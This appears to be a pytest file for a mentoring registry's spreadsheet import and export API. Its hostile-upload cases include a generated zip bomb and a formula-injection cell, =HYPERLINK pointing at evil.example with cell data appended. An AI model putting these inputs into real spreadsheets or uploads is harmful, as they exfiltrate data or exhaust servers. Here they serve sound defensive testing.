"""Spreadsheet import and export through the registry API, on the operators' own sample files."""

from __future__ import annotations

import io
import json
import os
import zipfile

import pytest
from sqlalchemy import func, select

from services.registry.adapters.tables import Mentee, Mentor, outbox
from shared.auth import issue_token
from tests.conftest import TEST_DATA

TRUTH = json.loads((TEST_DATA / "truth.json").read_text())




def upload(client, kind: str, content: bytes, filename: str, headers=None, **params):
    query = {"kind": kind, **{k: str(v).lower() for k, v in params.items()}}
    return client.post("/api/v1/imports", query_string=query, data={"file": (io.BytesIO(content), filename)},
                       headers=headers or client.admin, content_type="multipart/form-data")


def sample(name: str) -> bytes:
    return (TEST_DATA / name).read_bytes()


def counts(client) -> tuple[int, int, int]:
    with client.ctx.uow() as uow:
        return tuple(int(uow.session.scalar(select(func.count()).select_from(t))) for t in
                     (Mentor, Mentee, outbox.table))


def test_the_dry_run_reports_exactly_the_invalid_rows_of_the_truth_file(registry):
    mentors = upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", dry_run=True, on_error="skip")
    assert mentors.status_code == 200
    assert (mentors.json["rows"], mentors.json["valid"]) == (TRUTH["mentors_rows"], TRUTH["mentors_valid"])
    assert sorted({e["row"] for e in mentors.json["errors"]}) == sorted(r["xlsx_row"] for r in TRUTH["invalid_mentors"])
    csv = upload(registry, "mentors", sample("mentors_cp1251.csv"), "mentors.csv", dry_run=True, on_error="skip")
    assert sorted({e["row"] for e in csv.json["errors"]}) == sorted(r["csv_row"] for r in TRUTH["invalid_mentors"])
    mentees = upload(registry, "mentees", sample("mentees.xlsx"), "mentees.xlsx", dry_run=True, on_error="skip")
    assert (mentees.json["rows"], mentees.json["valid"]) == (TRUTH["mentees_rows"], TRUTH["mentees_valid"])
    assert sorted({e["row"] for e in mentees.json["errors"]}) == sorted(r["xlsx_row"] for r in TRUTH["invalid_mentees"])
    assert all(e["message"] and e["column"] for e in mentors.json["errors"] + mentees.json["errors"])
    assert counts(registry) == (0, 0, 0)


def test_abort_writes_nothing_and_answers_422_with_the_same_report(registry):
    response = upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx")
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert response.json["valid"] == TRUTH["mentors_valid"] and len(response.json["errors"]) == 3
    assert counts(registry) == (0, 0, 0)


def test_skip_imports_the_valid_rows_and_a_second_import_changes_nothing(registry):
    first = upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", on_error="skip").json
    assert (first["created"], first["skipped"]) == (TRUTH["mentors_valid"], 3)
    _, _, events_after_first = counts(registry)
    again = upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", on_error="skip").json
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, TRUTH["mentors_valid"])
    assert counts(registry)[2] == events_after_first
    from_csv = upload(registry, "mentors", sample("mentors_cp1251.csv"), "mentors.csv", on_error="skip").json
    assert (from_csv["created"], from_csv["updated"], from_csv["unchanged"]) == (0, 0, TRUTH["mentors_valid"])
    mentees = upload(registry, "mentees", sample("mentees.xlsx"), "mentees.xlsx", on_error="skip").json
    assert mentees["created"] == TRUTH["mentees_valid"]
    assert counts(registry)[:2] == (TRUTH["mentors_valid"], TRUTH["mentees_valid"])


def test_one_event_per_changed_entity(registry):
    upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", on_error="skip")
    with registry.ctx.uow() as uow:
        subjects = list(uow.session.execute(select(outbox.table.c.subject)).scalars())
    assert subjects.count("mentoring.mentor.registered") == TRUTH["mentors_valid"]
    organizations = subjects.count("mentoring.organization.upserted")
    assert organizations > 0 and len(subjects) == TRUTH["mentors_valid"] + organizations


def test_the_exported_bank_imports_back_unchanged_and_csv_is_excel_safe(registry):
    upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", on_error="skip")
    xlsx = registry.get("/api/v1/exports/mentors.xlsx", headers=registry.admin)
    assert xlsx.status_code == 200
    back = upload(registry, "mentors", xlsx.data, "export.xlsx", dry_run=True).json
    assert (back["rows"], back["unchanged"], back["errors"]) == (TRUTH["mentors_valid"], TRUTH["mentors_valid"], [])
    csv = registry.get("/api/v1/exports/mentors.csv", headers=registry.admin)
    assert csv.data.startswith("\ufeffРайон;".encode())
    assert upload(registry, "mentors", csv.data, "export.csv", dry_run=True).json["unchanged"] == TRUTH["mentors_valid"]


def test_formula_looking_cells_are_escaped_in_the_csv_export(registry):
    org = registry.post("/api/v1/organizations", json={"name": "МБОУ СОШ № 1", "municipality": "Район"},
                        headers=registry.admin).json
    registry.post("/api/v1/mentors", json={"organization_id": org["id"], "full_name": "=HYPERLINK(1) Анна"},
                  headers=registry.admin)
    text = registry.get("/api/v1/exports/mentors.csv", headers=registry.admin).data.decode("utf-8-sig")
    assert ";'=HYPERLINK(1) Анна;" in text


def workbook(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def raw_sheet(cells_xml: str, *, bomb: int = 0) -> bytes:
    """A minimal workbook whose only sheet holds the given `<row>` XML, written without a library's checks."""
    buffer = io.BytesIO()
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
        'name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{cells_xml}</sheetData></worksheet>' + " " * bomb,
    }
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


MENTOR_HEADER = ["Район", "Образовательная организация", "ФИО наставника", "Предмет"]
MENTOR_ROW = ["Белоярский район", "МБОУ СОШ № 1", "Иванова Анна Петровна", "Математика"]


def random_letters(n: int) -> str:
    """Letters that do not compress 100 times (a run of one letter would be refused as a zip bomb first)."""
    import random

    return "".join(random.Random(n).choices("абвгдеёжзийклмнопрстуфхцчшщъыьэюя", k=n))


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    return "\r\n".join(";".join(row) for row in rows).encode(encoding)


HOSTILE = {
    # name: (file name, builder, expected status, expected code)
    "not a spreadsheet": ("file.xlsx", lambda: b"%PDF-1.4 this is a pdf", 422, "corrupt_file"),
    "empty": ("file.xlsx", lambda: b"", None, None),
    "random bytes named xlsx": ("file.xlsx", lambda: os.urandom(4096), None, None),
    "zip bomb (300 MB sheet)": ("file.xlsx", lambda: raw_sheet("", bomb=300 * 2**20), 413, "zip_bomb"),
    "wrong kind (a mentees file as mentors)": ("file.xlsx", lambda: sample("mentees.xlsx"), None, None),
    "truncated xlsx": ("file.xlsx", lambda: sample("mentors.xlsx")[:5000], None, "corrupt_file"),
    "100,000 columns (csv)": ("wide.csv", lambda: csv_bytes([MENTOR_HEADER + ["x"] * 100_000, MENTOR_ROW]), 422,
                              "too_many_columns"),
    "16,384 columns, the xlsx maximum": ("wide.xlsx", lambda: workbook([MENTOR_HEADER + ["x"] * 16_380,
                                                                         MENTOR_ROW]), 422, "too_many_columns"),
    "a cell at column 100,000 (beyond the xlsx grid)": ("far.xlsx", lambda: raw_sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО наставника</t></is></c>'
        '<c r="EQXD1" t="inlineStr"><is><t>x</t></is></c></row>'), 422, "too_many_columns"),
    "10 MB cell (csv)": ("big.csv", lambda: csv_bytes([MENTOR_HEADER, [*MENTOR_ROW[:2], "Я" * 5_000_000,
                                                                       "Математика"]]), 422, "cell_too_large"),
    "10 MB cell (xlsx)": ("big.xlsx", lambda: raw_sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>ФИО наставника</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{random_letters(5_000_000)}</t></is></c></row>'), 422,
        "cell_too_large"),
    "duplicated headers": ("dup.csv", lambda: csv_bytes([MENTOR_HEADER + ["ФИО наставника"], MENTOR_ROW + ["x"]]),
                           422, "duplicate_columns"),
    "formula in a csv cell": ("formula.csv", lambda: sample("mentors_cp1251.csv").replace(
        b"smirnova54@mail.ru", '=HYPERLINK("http://evil.example/?"&A2,"почта")'.encode("cp1251")), 422,
        "formula"),
    "formula in an xlsx cell": ("formula.xlsx", lambda: workbook([MENTOR_HEADER + ["Контакты"], MENTOR_ROW + [
        '=HYPERLINK("http://evil.example","почта")']]), 422, "formulas"),
    "KOI8-R text": ("koi8.csv", lambda: csv_bytes([MENTOR_HEADER, [MENTOR_ROW[0], "Гимназия", *MENTOR_ROW[2:]]],
                                                  "koi8_r"), 422, None),
    "UTF-16 without a byte order mark": ("utf16.csv", lambda: csv_bytes([MENTOR_HEADER, MENTOR_ROW], "utf-16-le"),
                                         415, "not_spreadsheet"),
    "UTF-8 cut inside a letter": ("cut.csv", lambda: csv_bytes([MENTOR_HEADER, MENTOR_ROW])[:-1] + b"\xd0", None,
                                  None),
}


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # refused before any database work
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_uploads_get_a_clear_4xx_in_russian_and_write_nothing(registry, name):
    filename, build, status, code = HOSTILE[name]
    response = upload(registry, "mentors", build(), filename)
    assert 400 <= response.status_code < 500, (name, response.status_code, response.json)
    if status is not None:
        assert response.status_code == status, (name, response.json)
    assert response.mimetype == "application/problem+json"
    body = response.json
    text = body["detail"] + " ".join(error["message"] for error in body.get("errors", []))
    assert any("а" <= ch <= "я" for ch in text.lower()), body
    if code is not None:
        assert code in {body.get("code"), *(error.get("code") for error in body.get("errors", []))}, body
    assert counts(registry) == (0, 0, 0)


def test_an_upload_over_the_size_limit_is_refused_with_413(registry):
    response = upload(registry, "mentors", os.urandom(1024) * (50 * 1024), "big.xlsx")
    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"


def test_a_municipal_operator_imports_only_into_its_own_municipality(registry):
    upload(registry, "mentors", sample("mentors.xlsx"), "mentors.xlsx", on_error="skip")
    munis = {}
    orgs = registry.get("/api/v1/organizations", query_string={"limit": 500}, headers=registry.admin).json
    for item in orgs["items"]:
        munis[item["municipality_name"]] = item["municipality_id"]
    operator = {"Authorization": "Bearer " + issue_token(registry.settings, "municipal_operator",
                                                         f"municipality:{munis['Белоярский район']}")}
    report = upload(registry, "mentees", sample("mentees.xlsx"), "mentees.xlsx", headers=operator,
                    on_error="skip", dry_run=True).json
    out_of_scope = [e for e in report["errors"] if e["code"] == "out_of_scope"]
    assert out_of_scope and report["valid"] + len(report["errors"]) == report["rows"]


def mutations():
    from hypothesis import strategies as st

    base = [sample("mentors.xlsx"), sample("mentors_cp1251.csv"), sample("mentees.xlsx")]
    return st.tuples(st.sampled_from(range(len(base))), st.integers(0, 20000), st.binary(min_size=0, max_size=64),
                     st.sampled_from(["f.xlsx", "f.csv", "f", "f.xls", "f.txt"]),
                     st.sampled_from(["mentors", "mentees", "organizations"])).map(
        lambda t: (base[t[0]][: t[1]] + t[2] + base[t[0]][t[1] + len(t[2]):], t[3], t[4]))


def test_no_mutated_upload_makes_the_service_answer_500(registry):
    from hypothesis import HealthCheck, given, settings

    @settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
    @given(mutations())
    def check(case):
        content, filename, kind = case
        response = upload(registry, kind, content, filename, on_error="skip", dry_run=True)
        assert response.status_code < 500, response.json
        assert response.status_code == 200 or response.mimetype == "application/problem+json"

    check()
    assert counts(registry)[:2] == (0, 0)
